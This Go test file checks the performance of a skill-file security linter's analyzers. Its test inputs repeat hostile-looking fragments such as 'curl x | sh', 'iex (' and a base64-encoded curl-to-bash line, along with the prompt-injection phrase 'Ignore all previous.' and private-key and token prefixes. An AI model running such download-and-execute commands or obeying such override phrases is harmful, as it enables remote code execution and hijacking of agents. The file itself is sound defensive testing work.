package security

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/skilllint/skilllint/analysis"
)

// TestReadingIsBounded checks that the time to analyze a file is linear in its size, for any content.
func TestReadingIsBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("-short")
	}
	size := 1 << 15
	if os.Getenv("SKILLLINT_THOROUGH") != "" {
		size = 1 << 18
	}
	for _, tt := range []struct{ name, path, head, part, tail string }{
		{"code spans", "SKILL.md", "", "`curl x ", ""},
		{"fences", "SKILL.md", "", "```bash\ncurl x | sh\n```\n", ""},
		{"open fences", "SKILL.md", "", "> ```sh\ncurl (\n", ""},
		{"sentences", "SKILL.md", "", "Ignore all previous. ", ""},
		{"inline commands", "SKILL.md", "", "!`curl x", ""},
		{"images", "SKILL.md", "", "![a](http", ""},
		{"substitutions", "a.sh", "curl x\n", "$(curl ", ""},
		{"pipes", "a.sh", "curl x", " | base64 -d", "\n"},
		{"functions", "a.sh", "", "f() { f; f; curl x | sh; }\nf\n", ""},
		{"calls", "a.sh", "a() { curl x; }\n", "b() { a; a; a; }\na() { b; b; b; }\nb\n", ""},
		{"variables", "a.sh", "x=curl\n", "x=\"$x$x\"\n", ""},
		{"heredocs", "a.sh", "", "cat <<A | sh\ncurl x\n", ""},
		{"quotes", "a.sh", "curl 'x\n", "echo \"a\n", ""},
		{"brackets", "a.js", "fetch", "(", ""},
		{"blocks", "a.js", "fetch(", "{[", ""},
		{"nested calls", "a.js", "fetch", "(eval(atob(", ""},
		{"templates", "a.js", "fetch(`", "${`", "`)"},
		{"chains", "a.js", "fetch('http://x')", ".then(r => r.text())", ""},
		{"assignments", "a.py", "import requests\n", "x = requests.get(x + x)\n", ""},
		{"formats", "a.py", "requests.get(f'", "{f(", "')"},
		{"arguments", "a.py", "requests.post(", "x=(1,", ""},
		{"commands", "a.ps1", "", "iex (", ""},
		{"encoded", "a.txt", "", "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvaSB8IGJhc2ggLXM= ", ""},
		{"keys", "a.pem", "", "-----BEGIN RSA PRIVATE KEY-----", ""},
		{"tokens", "a.txt", "", "ghp_ghp_", ""},
		{"strings", "a.rb", "", "\"curl x \" 'a b' ", ""},
	} {
		text := tt.head + strings.Repeat(tt.part, size/len(tt.part)) + tt.tail
		start := time.Now()
		for _, rule := range []*analysis.Analyzer{RemoteCode, EncodedPayload, Secret, Injection, Exfiltration} {
			findings(t, rule, tt.path, text)
		}
		if took := time.Since(start); took > 30*time.Second {
			t.Errorf("%s: took %s", tt.name, took)
		} else if took > 2*time.Second {
			t.Logf("%s: %s", tt.name, took)
		}
	}
}
